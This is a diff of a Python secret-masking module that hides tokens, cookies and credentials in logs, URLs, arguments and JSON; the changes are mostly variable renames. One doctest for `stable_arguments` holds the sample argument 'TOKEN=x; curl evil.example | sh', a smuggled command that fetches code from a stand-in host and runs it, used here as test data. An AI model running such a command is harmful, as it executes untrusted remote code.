@@ -30,7 +30,7 @@ _IN_PATHS = {character: quote(character, "") for character in "!$&'()*+,;=:@/"}
 _ESCAPE = re.compile(r"%[0-9A-F]{2}")
 _ENCODERS = (json.JSONEncoder(), json.JSONEncoder(ensure_ascii=False))
 _URL_SAFE = str.maketrans("+/", "-_")
-_NAMED = re.compile(r"([\w.-]+)(?:=|:(?!//)\s*)")  # the start of `--name=value`, `NAME=value` or `Name: value`
+_ASSIGNMENT = re.compile(r"([\w.-]+)(?:=|:(?!//)\s*)")  # the start of `--name=value`, `NAME=value` or `Name: value`
 _OFTEN = 300  # characters of the longest URL whose masked form is cached, because logs may repeat it
 
 _STRIPPED = "".join(map(chr, range(33)))  # what `urlsplit` takes from the start of a URL
@@ -97,8 +97,8 @@ def _mask_in_argument(url: str) -> str:
 
 def mask_text(text: str) -> str:
     """Return text with secrets masked in its URLs and `name=value` pairs, even if they contain special characters."""
-    text = _URL.sub(lambda found: mask_url(_without_user(found[0])), text)
-    return _PAIR.sub(lambda found: f"{found[1]}={MASK}" if is_declared_secret(found[1]) else found[0], text)
+    text = _URL.sub(lambda match: mask_url(_without_user(match[0])), text)
+    return _PAIR.sub(lambda match: f"{match[1]}={MASK}" if is_declared_secret(match[1]) else match[0], text)
 
 
 def _without_user(url: str) -> str:
@@ -125,7 +125,7 @@ class Concealed(str):
 
 def mask_arguments(args: tuple[str, ...]) -> tuple[str, ...]:
     """Return command line arguments with the values of secret-looking options, variables and headers masked."""
-    return tuple(shown for shown, _ in _masked_arguments(args))
+    return tuple(text for text, _ in _masked_arguments(args))
 
 
 def _masked_arguments(args: tuple[str, ...]) -> list[tuple[str, frozenset[str]]]:
@@ -142,17 +142,17 @@ def _masked_arguments(args: tuple[str, ...]) -> list[tuple[str, frozenset[str]]]
             masked.append((_URL.sub(lambda match: _mask_in_argument(match[0]), arg), secrets))
         else:
             masked.append((arg, frozenset()))
-        hide_next = arg.startswith("-") and _NAMED.match(arg) is None and is_declared_secret(arg)
+        hide_next = arg.startswith("-") and _ASSIGNMENT.match(arg) is None and is_declared_secret(arg)
     return masked
 
 
 def _secret_start(arg: str) -> int | None:
     """Return the index of the value of a secret-looking name, also in `--header=Authorization: x`, or None."""
-    match = _NAMED.match(arg)
+    match = _ASSIGNMENT.match(arg)
     while match:
         if is_declared_secret(match[1]):
             return match.end()
-        match = _NAMED.match(arg, match.end())
+        match = _ASSIGNMENT.match(arg, match.end())
     return None
 
 
@@ -182,7 +182,7 @@ def cookie_secrets(name: str, value: str) -> frozenset[str]:
 
 def argument_secrets(args: tuple[str, ...]) -> frozenset[str]:
     """Return the secrets that `mask_arguments` masks."""
-    return frozenset(secret for _, found in _masked_arguments(args) for secret in found)
+    return frozenset(secret for _, secrets in _masked_arguments(args) for secret in secrets)
 
 
 def named_secrets(values: Mapping[str, str]) -> frozenset[str]:
@@ -199,13 +199,13 @@ def header_secrets(headers: Mapping[str, str]) -> frozenset[str]:
     >>> sorted(header_secrets({"Authorization": "Basic bWU6c2VzYW1l", "Cookie": "a=open; b=sesame"}))
     ['Basic bWU6c2VzYW1l', 'a=open; b=sesame', 'b=sesame', 'bWU6c2VzYW1l', 'me:sesame', 'open', 'sesame']
     """
-    found = {part for value in named_secrets(headers) for part in credentials(value)}
+    secrets = {part for value in named_secrets(headers) for part in credentials(value)}
     for name, value in headers.items():
         if name.lower() == "cookie":
-            found |= cookie_secrets(name, value)
+            secrets |= cookie_secrets(name, value)
         elif name.lower() == "sec-websocket-protocol":
-            found |= {word for part in value.split(",") if _TOKEN.fullmatch(word := part.strip())}
-    return frozenset(found - {""})
+            secrets |= {word for part in value.split(",") if _TOKEN.fullmatch(word := part.strip())}
+    return frozenset(secrets - {""})
 
 
 def variable_secrets(values: Mapping[str, str]) -> frozenset[str]:
@@ -238,7 +238,7 @@ def stable_arguments(args: tuple[str, ...]) -> tuple[str, ...]:
     ('--token', '***', '-c', 'TOKEN=x; curl evil.example | sh', '--key', 'server.py')
     """
     masked = zip(args, _masked_arguments(args), strict=True)
-    return tuple(shown if all(map(_PLAIN.fullmatch, secrets)) else arg for arg, (shown, secrets) in masked)
+    return tuple(text if all(map(_PLAIN.fullmatch, secrets)) else arg for arg, (text, secrets) in masked)
 
 
 def url_secrets(url: str) -> frozenset[str]:
@@ -270,15 +270,15 @@ def spellings(secret: str) -> frozenset[str]:
     in_query = in_path = quote(secret, "", errors="replace")  # UTF-8 cannot encode a lone surrogate
     for character, escape in _IN_PATHS.items():
         in_path = in_path.replace(escape, character)
-    found = {secret, html.escape(secret), in_query, in_query.replace("%20", "+"), in_path}
-    found |= {_with_lower_escapes(text) for text in found}
+    forms = {secret, html.escape(secret), in_query, in_query.replace("%20", "+"), in_path}
+    forms |= {_with_lower_escapes(text) for text in forms}
     for _ in range(3):  # JSON, JSON in a string of JSON, and that in the JSON of a message
-        more = {encoder.encode(text)[1:-1] for text in found for encoder in _ENCODERS}
-        if more <= found:
+        more = {encoder.encode(text)[1:-1] for text in forms for encoder in _ENCODERS}
+        if more <= forms:
             break
-        found |= more
-    found |= {text.replace("/", "\\/") for text in found if "\\" not in text}
-    return frozenset(found)
+        forms |= more
+    forms |= {text.replace("/", "\\/") for text in forms if "\\" not in text}
+    return frozenset(forms)
 
 
 def _with_lower_escapes(text: str) -> str:
@@ -290,15 +290,15 @@ def _with_lower_escapes(text: str) -> str:
 @lru_cache(maxsize=1024)
 def _in_base64(secret: str) -> frozenset[str]:
     """Return the parts of base64 that every longer text with the secret has (such as `user:password`)."""
-    found: set[str] = set()
+    forms: set[str] = set()
     data = secret.encode("utf-8", "replace")
     if len(data) < 6:
         return frozenset()
     for before in range(3):
         text = base64.b64encode(b"\0" * before + data).decode()
         part = text[(0, 2, 3)[before] : (before + len(data)) * 8 // 6]
-        found |= {part, part.translate(_URL_SAFE)} | ({text} if not before else set())
-    return frozenset(found)
+        forms |= {part, part.translate(_URL_SAFE)} | ({text} if not before else set())
+    return frozenset(forms)
 
 
 _LONG_WORD = re.compile(r"[A-Za-z0-9+/_-]{8}")  # what every text with base64 of a secret has
@@ -359,15 +359,15 @@ class Cut:
             return self._rest(len(value))
         if isinstance(value, dict):
             return self._members(value, depth + 1)
-        listed = [self.value(inner, depth + 1) for inner in takewhile(self._has_room, value)]
-        return listed if len(listed) == len(value) else [*listed, self._rest(len(value) - len(listed))]
+        items = [self.value(inner, depth + 1) for inner in takewhile(self._has_room, value)]
+        return items if len(items) == len(value) else [*items, self._rest(len(value) - len(items))]
 
     def _members(self, value: dict[Any, Any], depth: int) -> dict[str, Any]:
-        named = {}
+        members = {}
         for key, inner in takewhile(self._has_room, value.items()):
             name = str(key)
-            named[name if len(name) <= SHORT_NAME else self._text(name)] = self.value(inner, depth)
-        return named if len(named) == len(value) else {**named, "…": self._rest(len(value) - len(named))}
+            members[name if len(name) <= SHORT_NAME else self._text(name)] = self.value(inner, depth)
+        return members if len(members) == len(value) else {**members, "…": self._rest(len(value) - len(members))}
 
     def _has_room(self, _: object) -> bool:
         return self._nodes > 0
@@ -381,10 +381,10 @@ class Cut:
         self._characters -= len(text)
         if len(text) <= limit:
             return text
-        said = f"… ({len(text):,} characters)"
-        self.left_out += (len(text) - limit) * _bytes_per_character(text[: min(limit, 1000)]) - len(said)
+        note = f"… ({len(text):,} characters)"
+        self.left_out += (len(text) - limit) * _bytes_per_character(text[: min(limit, 1000)]) - len(note)
         # mask first: half of a secret at the cut is secret too
-        return self._hide(text[: limit + 2 * LONGEST])[:limit] + said
+        return self._hide(text[: limit + 2 * LONGEST])[:limit] + note
 
 
 _REST = re.compile(r"… \((\d[\d,]{0,19}) more\)")
@@ -475,19 +475,19 @@ def short_json() -> Callable[[Any], bytes]:
 
 def is_long(value: dict[str, Any]) -> bool:
     """Whether a message has certainly more than `KEPT_BYTES` as JSON. Runs on most messages; looks at 10,000 values."""
-    left = KEPT_BYTES
+    budget = KEPT_BYTES
     containers: list[Any] = [value]
     for container in containers:  # it grows meanwhile
         for inner in container.values() if type(container) is dict else container:
             kind = type(inner)
             if kind is str:
-                left -= len(inner)
+                budget -= len(inner)
             elif kind is dict or kind is list:
-                left -= 2 * len(inner)
-                if left < 0:
+                budget -= 2 * len(inner)
+                if budget < 0:
                     return True
                 containers.append(inner)
-    return left < 0
+    return budget < 0
 
 
 def _bytes_per_character(text: str) -> float:
@@ -514,12 +514,12 @@ def estimated_size(value: Any) -> int:
             size += weight * (_bytes_per_character(value[:CUT_BYTES]) * len(value) + 2)
         elif isinstance(value, dict | list | tuple):
             size += weight * (len(value) + 1)
-            chosen = list(islice(value, 0, None, max(1, len(value) // SAMPLE)))
-            weight *= len(value) / max(1, len(chosen))
+            sample = list(islice(value, 0, None, max(1, len(value) // SAMPLE)))
+            weight *= len(value) / max(1, len(sample))
             if isinstance(value, dict):
-                size += weight * sum(len(str(name)) + 3 for name in chosen)
-                chosen = [value[name] for name in chosen]
-            values.extend((inner, weight) for inner in chosen)
+                size += weight * sum(len(str(name)) + 3 for name in sample)
+                sample = [value[name] for name in sample]
+            values.extend((inner, weight) for inner in sample)
         else:
             size += weight * len(str(value))
     return round(size)
@@ -584,10 +584,10 @@ class Masker:
             return True
         if not (self._forms or self._entered):
             return False
-        shown = text.decode("utf-8", "replace")
-        if self._entered and '"accept"' in shown:
+        decoded = text.decode("utf-8", "replace")
+        if self._entered and '"accept"' in decoded:
             return True
-        return any(form in shown for form in self._forms) or any(form in shown for form in self._encoded_forms())
+        return any(form in decoded for form in self._forms) or any(form in decoded for form in self._encoded_forms())
 
     def _has_word(self, lowered: bytes) -> bool:
         """Whether UTF-8 text in lower case has one of the words."""
@@ -617,7 +617,7 @@ class Masker:
             return self.text(value)
         if isinstance(value, dict):
             value = self._without_entered(value)
-            return {self.hide(str(name)): self._named(str(name), inner, schemas) for name, inner in value.items()}
+            return {self.hide(str(name)): self._member(str(name), inner, schemas) for name, inner in value.items()}
         if isinstance(value, list | tuple):
             return [self._walk(inner, schemas) for inner in value]
         return value
@@ -629,7 +629,7 @@ class Masker:
             return value
         return {**value, "content": {n: MASK if n in self._entered else inner for n, inner in content.items()}}
 
-    def _named(self, name: str, value: Any, schemas: bool) -> Any:
+    def _member(self, name: str, value: Any, schemas: bool) -> Any:
         secret = value is not None and not isinstance(value, bool) and is_secret_name(name)
         if secret and isinstance(value, int | float) and name.lower() in EVERYDAY:  # of a summary, as "pass": 12
             secret = False
@@ -701,27 +701,27 @@ class Masker:
         lowered = text.lower()
         if self._has_word(lowered.encode("utf-8", "replace")):
             if "cookie" in lowered:
-                for found in _COOKIE.finditer(text):
-                    self.learn_cookies(found["name"], found["value"])
+                for cookie in _COOKIE.finditer(text):
+                    self.learn_cookies(cookie["name"], cookie["value"])
                 text = _COOKIE.sub(rf"\g<name>\g<between>{MASK}", text)
             text = _SCHEME.sub(self._without_credentials, _without_named(text))
         return text
 
-    def _without_credentials(self, found: re.Match[str]) -> str:
+    def _without_credentials(self, match: re.Match[str]) -> str:
         """Mask `x` of `Basic x` and `Bearer x`; remember it if it is no prose but a user with a password."""
-        if any(":" in part for part in credentials(f"{found['scheme']} {found['word']}")):
-            self.learn(f"{found['scheme']} {found['word']}")
-        return f"{found['scheme']}{found['space']}{MASK}"
+        if any(":" in part for part in credentials(f"{match['scheme']} {match['word']}")):
+            self.learn(f"{match['scheme']} {match['word']}")
+        return f"{match['scheme']}{match['space']}{MASK}"
 
 
 def _without_named(text: str) -> str:
     """Return text with the values masked that follow the name of a secret."""
-    parts, done = [], 0
-    for found in _NAMED_VALUE.finditer(text):
-        name, value = found["name"], found["value"]
+    parts, end = [], 0
+    for match in _NAMED_VALUE.finditer(text):
+        name, value = match["name"], match["value"]
         if not is_secret_name(name) or value.lower() in ("bearer", "basic"):
             continue
-        if name.lower() not in EVERYDAY or not (found["said"] or len(value) < 4):
-            parts += [text[done : found.start("value")], MASK]
-            done = found.end("value")
-    return "".join([*parts, text[done:]])
+        if name.lower() not in EVERYDAY or not (match["said"] or len(value) < 4):
+            parts += [text[end : match.start("value")], MASK]
+            end = match.end("value")
+    return "".join([*parts, text[end:]])
